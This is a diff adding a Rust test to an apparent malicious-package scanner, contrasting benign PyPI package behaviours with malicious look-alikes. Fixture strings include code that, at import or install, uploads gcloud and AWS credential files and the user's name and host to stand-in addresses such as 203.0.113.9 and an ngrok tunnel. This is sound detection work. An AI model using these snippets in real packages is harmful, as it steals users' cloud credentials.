@@ -1011,3 +1011,57 @@ fn starting_a_windows_system_program_by_name_is_not_starting_a_dropped_file() {
         r.findings
     );
 }
+
+/// Cases from the tuning half of PyPI ranks 3,001-4,000 (even ranks; the
+/// odd ranks are held out and never read for rule work), each with the
+/// look-alike that must still be caught.
+#[test]
+fn client_behaviour_of_ranks_3001_to_4000_is_told_from_theft() {
+    // pyngrok: downloads the ngrok agent from ngrok's CDN and starts it.
+    let installer = "import os, subprocess, urllib.request\nCDN = 'https://bin.ngrok.com/c/abc/'\nurllib.request.urlretrieve(CDN + 'ngrok-v3-stable-linux-amd64.tgz', '/tmp/ngrok.tgz')\n";
+    let r = wheel(&[("pkg/__init__.py", installer)]);
+    assert_ne!(r.verdict, Verdict::Malicious, "{:#?}", r.findings);
+    // A probe that reports to a tunnel is a request bin in use.
+    let probe = "import getpass, urllib.request\nurllib.request.urlopen('https://4f2a.ngrok-free.app/?u=' + getpass.getuser())\n";
+    let r = wheel(&[("pkg/__init__.py", probe)]);
+    assert_eq!(r.verdict, Verdict::Malicious, "{:#?}", r.findings);
+
+    // skypilot / oci-cli: an SDK install one-liner kept as a constant, next
+    // to the credential paths the CLI documents and a .bashrc it completes.
+    let cli = "import os\nGCP_CONFIG = '~/.config/gcloud/configurations/config_default'\nRC = os.path.expanduser(os.path.join('~', '.bashrc'))\nINSTALL = 'pushd /tmp && curl -sSL https://dl.google.com/sdk.tar.gz -o sdk.tar.gz && tar xzf sdk.tar.gz'\n";
+    let r = wheel(&[("pkg/__init__.py", cli)]);
+    assert_ne!(r.verdict, Verdict::Malicious, "{:#?}", r.findings);
+    // The same one-liner run at import, with the credentials, is theft.
+    let run = "import os\nos.system('curl -s -F f=@' + os.path.expanduser('~/.config/gcloud/credentials.db') + ' https://203.0.113.9/u')\n";
+    let r = wheel(&[("pkg/__init__.py", run)]);
+    assert_eq!(r.verdict, Verdict::Malicious, "{:#?}", r.findings);
+
+    // skypilot: "hostNetwork: true" explained in a module docstring.
+    let doc = "\"\"\"Probe for pods with\n    hostNetwork: true\nset in their spec.\"\"\"\nTOKEN = '/var/run/secrets/kubernetes.io/serviceaccount/token'\n";
+    let r = wheel(&[("pkg/probe.py", doc)]);
+    assert_ne!(r.verdict, Verdict::Malicious, "{:#?}", r.findings);
+
+    // open-webui: its own credentials variable read, its own service asked,
+    // the metadata address in a proxy exclusion list.
+    let config = "import os, requests\nCREDS = os.getenv('GOOGLE_APPLICATION_CREDENTIALS_JSON', None)\nNO_PROXY = ['!169.254.169.254']\nr = requests.get('https://api.openwebui.com/api/v1/custom/x')\n";
+    let r = wheel(&[("pkg/__init__.py", config)]);
+    assert_ne!(r.verdict, Verdict::Malicious, "{:#?}", r.findings);
+    // A credentials file read and posted at import is theft.
+    let stealer = "import os, requests\nkey = open(os.path.expanduser('~/.aws/credentials')).read()\nrequests.post('https://203.0.113.9/k', data=key)\n";
+    let r = wheel(&[("pkg/__init__.py", stealer)]);
+    assert_eq!(r.verdict, Verdict::Malicious, "{:#?}", r.findings);
+
+    // uwsgi: platform facts at the top of a build script, a helper that
+    // opens a build profile by URL.
+    let build = "import os, urllib.request\nuwsgi_os = os.uname()[0]\nuwsgi_cpu = os.uname()[4]\ndef open_profile(name):\n    return urllib.request.urlopen(name)\nopen_profile('https://example.org/profile.ini')\n";
+    let r = sdist(&[
+        ("setup.py", &format!("import uwsgiconfig\n{SETUP}")),
+        ("uwsgiconfig.py", build),
+    ]);
+    assert_ne!(r.verdict, Verdict::Malicious, "{:#?}", r.findings);
+    // A setup.py function that gathers the user and host, and one that
+    // sends: a beacon at install (python-mysqldb 2.4).
+    let beacon = "import getpass, socket, urllib.request\nfrom setuptools import setup\ndef send(data):\n    urllib.request.urlopen('http://127.0.0.1:9/', data=data)\ndef detect():\n    return (getpass.getuser() + socket.gethostname()).encode()\nsend(detect())\nsetup(name='pkg')\n";
+    let r = sdist(&[("setup.py", beacon)]);
+    assert_eq!(r.verdict, Verdict::Malicious, "{:#?}", r.findings);
+}
